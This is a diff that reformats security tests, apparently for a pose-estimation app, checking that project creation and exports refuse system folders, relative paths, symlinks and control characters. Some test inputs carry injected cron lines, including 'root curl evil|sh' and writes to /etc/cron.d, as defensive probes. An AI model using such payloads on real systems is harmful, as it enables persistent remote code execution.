@@ -52,22 +52,60 @@ async function finished(taskId: string): Promise<Task> {
 const lsp = { preset: 'lsp14' };
 
 test('projects.create refuses the root, system trees, relative paths, the home folder itself and control characters', async () => {
-  refused(await attempt('projects.create', { folder: '/', name: 'root', skeleton: lsp }), 'forbidden', /filesystem root/);
-  for (const folder of ['/etc', '/etc/deeppose-probe', '/usr/share/deeppose-probe', '/proc/deeppose-probe', '/sys/x', '/dev/x', '/boot/x', '/var/lib/deeppose-probe', '/bin/x']) {
+  refused(
+    await attempt('projects.create', { folder: '/', name: 'root', skeleton: lsp }),
+    'forbidden',
+    /filesystem root/,
+  );
+  for (const folder of [
+    '/etc',
+    '/etc/deeppose-probe',
+    '/usr/share/deeppose-probe',
+    '/proc/deeppose-probe',
+    '/sys/x',
+    '/dev/x',
+    '/boot/x',
+    '/var/lib/deeppose-probe',
+    '/bin/x',
+  ]) {
     refused(await attempt('projects.create', { folder, name: 'sys', skeleton: lsp }), 'forbidden', /system folder/);
     assert.equal(existsSync(join(folder, 'catalog.sqlite')), false, folder);
   }
-  refused(await attempt('projects.create', { folder: 'relative-probe/x', name: 'rel', skeleton: lsp }), 'invalid-argument', /relative path/);
+  refused(
+    await attempt('projects.create', { folder: 'relative-probe/x', name: 'rel', skeleton: lsp }),
+    'invalid-argument',
+    /relative path/,
+  );
   assert.equal(existsSync(resolve('relative-probe')), false, 'nothing made in the working directory');
-  refused(await attempt('projects.create', { folder: homedir(), name: 'home', skeleton: lsp }), 'forbidden', /home folder itself/);
-  refused(await attempt('projects.create', { folder: join(temp.dir, 'a\nb'), name: 'nl', skeleton: lsp }), 'invalid-argument', /control characters/);
-  refused(await attempt('projects.create', { folder: join(temp.dir, 'ok'), name: 'evil\n* * * * * root sh', skeleton: lsp }), 'invalid-argument', /control characters/);
+  refused(
+    await attempt('projects.create', { folder: homedir(), name: 'home', skeleton: lsp }),
+    'forbidden',
+    /home folder itself/,
+  );
+  refused(
+    await attempt('projects.create', { folder: join(temp.dir, 'a\nb'), name: 'nl', skeleton: lsp }),
+    'invalid-argument',
+    /control characters/,
+  );
+  refused(
+    await attempt('projects.create', { folder: join(temp.dir, 'ok'), name: 'evil\n* * * * * root sh', skeleton: lsp }),
+    'invalid-argument',
+    /control characters/,
+  );
   assert.equal(existsSync(join(temp.dir, 'ok', 'catalog.sqlite')), false);
-  refused(await attempt('projects.createSample', { folder: '/etc/deeppose-sample', count: 10 }), 'forbidden', /system folder/);
+  refused(
+    await attempt('projects.createSample', { folder: '/etc/deeppose-sample', count: 10 }),
+    'forbidden',
+    /system folder/,
+  );
   // A symlink into a system tree counts as that tree.
   const { symlinkSync } = await import('node:fs');
   symlinkSync('/etc', join(temp.dir, 'etc-link'));
-  refused(await attempt('projects.create', { folder: join(temp.dir, 'etc-link', 'p'), name: 'link', skeleton: lsp }), 'forbidden', /system folder \/etc/);
+  refused(
+    await attempt('projects.create', { folder: join(temp.dir, 'etc-link', 'p'), name: 'link', skeleton: lsp }),
+    'forbidden',
+    /system folder \/etc/,
+  );
 });
 
 test('datasets.export and models.exportOnnx never overwrite unasked and write only inside the project', async () => {
@@ -76,14 +114,34 @@ test('datasets.export and models.exportOnnx never overwrite unasked and write on
   const existing = join(project, 'labels.json');
   writeFileSync(existing, 'precious');
 
-  refused(await attempt('datasets.export', { project, format: 'coco', path: existing }), 'conflict', /already exists; choose overwrite/);
+  refused(
+    await attempt('datasets.export', { project, format: 'coco', path: existing }),
+    'conflict',
+    /already exists; choose overwrite/,
+  );
   assert.equal(readFileSync(existing, 'utf8'), 'precious');
   const outside = join(temp.dir, 'outside.csv');
-  refused(await attempt('datasets.export', { project, format: 'csv', path: outside }), 'forbidden', /outside the project's folders/);
+  refused(
+    await attempt('datasets.export', { project, format: 'csv', path: outside }),
+    'forbidden',
+    /outside the project's folders/,
+  );
   assert.equal(existsSync(outside), false);
-  refused(await attempt('datasets.export', { project, format: 'csv', path: '/etc/cron.d/deeppose', overwrite: true }), 'forbidden', /system folder \/etc/);
-  refused(await attempt('datasets.export', { project, format: 'csv', path: 'relative.csv' }), 'invalid-argument', /relative path/);
-  refused(await attempt('datasets.export', { project, format: 'csv', path: project, overwrite: true }), 'conflict', /not a regular file/);
+  refused(
+    await attempt('datasets.export', { project, format: 'csv', path: '/etc/cron.d/deeppose', overwrite: true }),
+    'forbidden',
+    /system folder \/etc/,
+  );
+  refused(
+    await attempt('datasets.export', { project, format: 'csv', path: 'relative.csv' }),
+    'invalid-argument',
+    /relative path/,
+  );
+  refused(
+    await attempt('datasets.export', { project, format: 'csv', path: project, overwrite: true }),
+    'conflict',
+    /not a regular file/,
+  );
 
   const replaced = await attempt('datasets.export', { project, format: 'coco', path: existing, overwrite: true });
   assert.ok(replaced.ok);
@@ -102,9 +160,21 @@ test('datasets.export and models.exportOnnx never overwrite unasked and write on
 test('predictions.export refuses system trees, relative paths and folders before looking for the set', async () => {
   const project = join(temp.dir, 'predictor');
   assert.ok((await attempt('projects.create', { folder: project, name: 'Predictor', skeleton: lsp })).ok);
-  refused(await attempt('predictions.export', { project, setId: 1, format: 'csv', path: '/etc/cron.d/deeppose' }), 'forbidden', /system folder \/etc/);
-  refused(await attempt('predictions.export', { project, setId: 1, format: 'csv', path: 'relative.csv' }), 'invalid-argument', /relative path/);
-  refused(await attempt('predictions.export', { project, setId: 1, format: 'csv', path: project }), 'conflict', /not a regular file/);
+  refused(
+    await attempt('predictions.export', { project, setId: 1, format: 'csv', path: '/etc/cron.d/deeppose' }),
+    'forbidden',
+    /system folder \/etc/,
+  );
+  refused(
+    await attempt('predictions.export', { project, setId: 1, format: 'csv', path: 'relative.csv' }),
+    'invalid-argument',
+    /relative path/,
+  );
+  refused(
+    await attempt('predictions.export', { project, setId: 1, format: 'csv', path: project }),
+    'conflict',
+    /not a regular file/,
+  );
   assert.equal(existsSync(resolve('relative.csv')), false);
 });
 
@@ -133,7 +203,11 @@ test('CSV lists quote paths with commas, quotes and newlines, and read them back
   const dir = join(temp.dir, 'csv-project');
   const catalog = createProject(dir, 'CSV', LSP14);
   const evil = join(dir, 'a,b "c"\n* * * * * root curl evil|sh\n.png');
-  const imageId = Number(catalog.db.prepare('INSERT INTO images (path, sha256, width, height, added_at) VALUES (?, ?, ?, ?, ?)').run(evil, 'f'.repeat(64), 100, 100, 0).lastInsertRowid);
+  const imageId = Number(
+    catalog.db
+      .prepare('INSERT INTO images (path, sha256, width, height, added_at) VALUES (?, ?, ?, ?, ?)')
+      .run(evil, 'f'.repeat(64), 100, 100, 0).lastInsertRowid,
+  );
   insertInstance(
     catalog,
     imageId,
